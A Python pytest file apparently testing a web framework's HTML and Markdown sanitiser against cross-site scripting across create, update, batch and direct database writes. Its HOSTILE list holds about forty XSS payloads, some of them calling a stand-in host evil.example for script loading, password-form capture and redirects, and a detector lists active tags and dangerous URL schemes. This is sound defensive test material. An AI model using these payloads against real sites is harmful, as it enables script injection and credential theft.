"""XSS-1: what is written to fields of HTML and Markdown runs in no browser, on every way in."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Any

import markdown
import pytest
from markdown_it import MarkdownIt

from abaft import Model, allow, field
from abaft.base.errors import ModelError
from abaft.guard.sanitise import clean_html, clean_markdown
from abaft.model.build import build
from scenarios import serving

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<form action=//evil.example><input name=password></form>",
    "<style>@import '//evil.example'</style>",
    "<div style=background:url(javascript:alert(1))>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<<script>alert(1)//<</script>",
    "<script\n>alert(1)</script\n>",
    "```\n</code><script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x]( <javascript:alert(1)> )",
    "[x](\njavascript:alert(1))",
    "[x](vbscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[y]:\njavascript:alert(1)\n\n[y]",
    "<javascript:alert(1)>",
    "<https://x.example/onmouseover=alert(1)>",
]  # fmt: skip

_ACTIVE = {"script", "iframe", "object", "embed", "form", "style", "base", "meta", "svg", "link"}


class Alive(HTMLParser):
    """Takes down what would act."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _ACTIVE:
            self.found.append(tag)
        for name, value in attrs:
            target = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or re.match(r"(java|vb)script:|data:", target):
                self.found.append(f"{tag} {name}={value}")


def alive(html: str) -> list[str]:
    reader = Alive()
    reader.feed(html)
    reader.close()
    return reader.found


def test_the_reader_finds_what_is_alive() -> None:
    assert sum(bool(alive(text)) for text in HOSTILE) > 15


@pytest.mark.parametrize("text", HOSTILE)
def test_xss_1_nothing_of_it_is_alive(text: str) -> None:
    assert not alive(clean_html(text))
    cleaned = clean_markdown(text)
    assert clean_markdown(cleaned) == cleaned
    for rendered in (
        MarkdownIt("commonmark", {"html": True}).render(cleaned),
        MarkdownIt("js-default", {"html": True, "linkify": False}).render(cleaned),
        markdown.markdown(cleaned, extensions=["fenced_code", "tables", "attr_list"]),
        cleaned,
    ):
        assert not alive(rendered), rendered


KEPT = [
    "# A head\n\n*some* **text** with `code`, a < b and b > a & c",
    "[a](https://example.org/?a=1&b=2) ![i](/i.png 'title') <https://example.org> <mailto:a@b.org>",
    "```java\nList<String> list = new ArrayList<>();\n```",
    "<b>bold</b><br/>",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "[x]: /relative",
    "- [ ] to do\n\n> quoted",
]


@pytest.mark.parametrize("text", KEPT)
def test_what_is_harmless_stays_as_it_was(text: str) -> None:
    assert clean_markdown(text) == text


class Doc(Model):
    title: str
    html: str = field(format="html", default="", max_length=60)
    text: str = field(format="markdown", default="")

    @allow("read", "create", "update")
    def everyone(doc, me: Any) -> bool:
        return True


BAD = "<b>x</b><script>alert(1)</script>"


async def test_xss_1_every_way_in_is_guarded(database_url: str) -> None:
    async with serving(database_url, Doc) as api:
        body = {"title": BAD, "html": BAD, "text": BAD}
        made = await api.ask("POST /api/docs", json=body)
        many = await api.ask("POST /api/docs", json=[body, body])
        id_ = made.json()["id"]
        changed = await api.ask(f"PATCH /api/docs/{id_}", json={"html": BAD, "text": BAD})
        put = await api.ask(f"PUT /api/docs/{id_}", json=body)
        operation = {"name": "one", "method": "POST", "path": "/docs", "body": body}
        batch = await api.ask("POST /api/batch", json={"operations": [operation]})
        for answer in (made, many, changed, put, batch):
            assert answer.status_code < 300, answer.text
        await api.db.create(Doc, title="x", html=BAD, text=BAD)
        found = await api.items("/api/docs")
        assert len(found) == 5
        for one in found:
            assert one["html"] == "<b>x</b>"
            assert one["text"] == "<b>x</b>&lt;script>alert(1)&lt;/script>"
        assert {one["title"] for one in found} == {BAD, "x"}, "plain text is text, as it came"
        long = await api.ask("POST /api/docs", json={"title": "x", "html": "&" * 40})
        assert long.status_code == 422
        assert long.json()["errors"][0]["pointer"] == "/html"


def test_a_format_is_of_text() -> None:
    class Odd(Model):
        size: int = field(format="html")

    with pytest.raises(ModelError, match="format"):
        build([Odd])
